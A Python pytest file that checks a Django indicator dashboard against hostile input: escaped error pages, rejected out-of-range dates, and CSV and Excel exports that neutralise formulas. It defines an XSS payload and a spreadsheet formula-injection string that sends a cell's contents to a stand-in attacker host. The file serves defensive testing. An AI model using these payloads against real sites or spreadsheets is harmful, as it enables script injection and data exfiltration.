"""Hostile input on the indicator pages: error answers never reflect markup, dates stay inside the working
calendar, and no text written into the Excel report or the CSV lists becomes a formula."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime
from io import BytesIO
from zoneinfo import ZoneInfo

import pytest
import time_machine
from django.contrib.auth import get_user_model
from openpyxl import load_workbook

from metrics.indicators import Period, scope_for
from metrics.reports import FIRST_DATA_ROW, report_xlsx
from tests.procedures.factories import AgencyFactory, ProcedureVersionFactory
from workflows.services import Applicant, dossier_receive

pytestmark = pytest.mark.django_db

XSS = '<script>alert("x")</script><img src=x onerror=alert(1)>'
FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"Bấm vào đây")'
HANOI = ZoneInfo("Asia/Ho_Chi_Minh")
MAY = {"from": "2025-05-01", "to": "2025-05-31"}


@pytest.fixture
def admin_client(client):
    client.force_login(get_user_model().objects.create_superuser("quantri-xss", password="x"))
    return client


@pytest.fixture
def agency():
    return AgencyFactory(code="DEMO-XSS", name="Sở thử nghiệm")


def _assert_not_reflected(response) -> None:
    """400, and the payload is not in the answer as markup (escaped, or not echoed at all)."""
    assert response.status_code == 400
    body = response.content.decode()
    assert "<script>alert" not in body and "<img src=x" not in body


@pytest.mark.parametrize(
    "params",
    [
        {"figure": XSS, "agency": "DEMO-XSS", **MAY},
        {"figure": "received", "agency": XSS, **MAY},
        {"figure": "received", "agency": "DEMO-XSS", "from": XSS, "to": "2025-05-31"},
        {"figure": XSS, "agency": "DEMO-XSS", "format": "csv", **MAY},
    ],
    ids=["figure", "agency", "from", "figure-csv"],
)
def test_figure_list_errors_do_not_reflect_markup(admin_client, agency, params):
    _assert_not_reflected(admin_client.get("/chi-so/ho-so/", params))


@pytest.mark.parametrize(
    "params",
    [{"by": XSS, "agency": "DEMO-XSS", **MAY}, {"by": "unit", "agency": XSS, **MAY}],
    ids=["by", "agency"],
)
def test_report_errors_do_not_reflect_markup(admin_client, agency, params):
    _assert_not_reflected(admin_client.get("/chi-so/bao-cao.xlsx", params))


@pytest.mark.parametrize(
    ("start", "end"),
    [("0001-01-01", "9999-12-31"), ("2025-01-01", "9999-12-31"), ("1000-01-01", "2025-01-31")],
)
def test_dashboard_dates_outside_the_calendar_are_a_form_error(admin_client, agency, settings, start, end):
    response = admin_client.get(
        "/chi-so/",
        {"agency": "DEMO-XSS", "kind": "custom", "from": start, "to": end},
        HTTP_ACCEPT_LANGUAGE="vi",
    )
    assert response.status_code == 200
    errors = " ".join(str(e) for errs in response.context["form"].errors.values() for e in errs)
    assert f"{settings.SLA_FIRST_YEAR}" in errors and f"{settings.SLA_LAST_YEAR}" in errors
    assert "card" not in response.context


@pytest.mark.parametrize("url", ["/chi-so/ho-so/", "/chi-so/bao-cao.xlsx"])
def test_drill_down_and_report_dates_outside_the_calendar_are_400(admin_client, agency, url):
    params = {
        "figure": "received",
        "by": "unit",
        "agency": "DEMO-XSS",
        "from": "0001-01-01",
        "to": "9999-12-31",
    }
    response = admin_client.get(url, params)
    assert response.status_code == 400


def test_excel_report_writes_catalogue_text_as_text(agency):
    AgencyFactory(code="DEMO-XSS-1", name=FORMULA, parent=agency)
    AgencyFactory(code="DEMO-XSS-2", name="-1+2", parent=agency)
    data = report_xlsx(
        scope_for("DEMO-XSS", include_children=True), Period(date(2025, 5, 1), date(2025, 5, 31))
    )
    sheet = load_workbook(BytesIO(data)).active
    names = {}
    for row in sheet.iter_rows(min_row=FIRST_DATA_ROW):
        names[row[1].value] = row
    assert FORMULA in names and "-1+2" in names
    for text in (FORMULA, "-1+2"):
        row = names[text]
        assert row[1].data_type == "s", text
        assert all(c.data_type == "n" for c in row[2:13])  # the counts stay numbers
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)


def test_csv_list_neutralises_formulas(admin_client, agency):
    agency.name = FORMULA
    agency.save()
    version = ProcedureVersionFactory(
        procedure__name=FORMULA, procedure__agency=agency, effective_from=date(2025, 1, 1)
    )
    with time_machine.travel(datetime(2025, 5, 12, 9, 0, tzinfo=HANOI), tick=False):
        dossier_receive(
            procedure=version.procedure,
            applicant=Applicant(name="@Nguyễn Văn A", id_number="001203012345"),
            user=None,
        )
    response = admin_client.get(
        "/chi-so/ho-so/", {"figure": "received", "agency": "DEMO-XSS", "format": "csv", **MAY}
    )
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert cells, rows
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert any(c.startswith("'=") for c in cells)
